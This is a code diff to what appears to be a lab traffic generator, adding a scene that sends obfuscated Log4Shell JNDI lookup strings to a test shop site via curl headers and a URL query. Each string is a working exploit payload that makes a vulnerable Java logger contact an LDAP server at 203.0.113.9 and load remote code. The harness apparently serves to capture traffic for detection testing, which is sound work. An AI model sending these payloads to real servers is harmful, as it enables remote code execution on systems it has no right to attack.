@@ -172,7 +172,6 @@ NESTED = [
     "${j${date:'n'}di:ldap://203.0.113.9:1389/date}",
     "${${lower:${lower:${upper:jndi}}}:${lower:ldap}://203.0.113.9:1389/deep}",
     "${jndi${sys:path.separator}ldap:/${sys:file.separator}203.0.113.9:1389/separator}",
-    "${jnd${upper:\u0131}:ldap://203.0.113.9:1389/dotless}",
     "${lower:$${jndi:ldap://203.0.113.9:1389/escape-undone}}",
     "${jndi:ldap:\\-//203.0.113.9:1389/delimiter:-}",
     "${a:-${jndi:ldap://203.0.113.9:1389/in-default}}",
@@ -182,11 +181,13 @@ NESTED = [
 
 @scene("http-nested")
 def nested(lab, path):
-    """Look-ups that only evaluation shows, all in the User-Agent of curl."""
+    """Look-ups that only evaluation shows, in the User-Agent of curl; the last in the query."""
     servers.start_site(lab)
+    dotless = "${jnd${upper:\u0131}:ldap://203.0.113.9:1389/dotless}"
     with lab.capture(path):
         for text in NESTED:
             curl(lab, "http://shop.example/", "-A", text)
+        curl(lab, "http://shop.example/?q=" + urllib.parse.quote(dotless, safe=""))
 
 
 SCHEMES = [
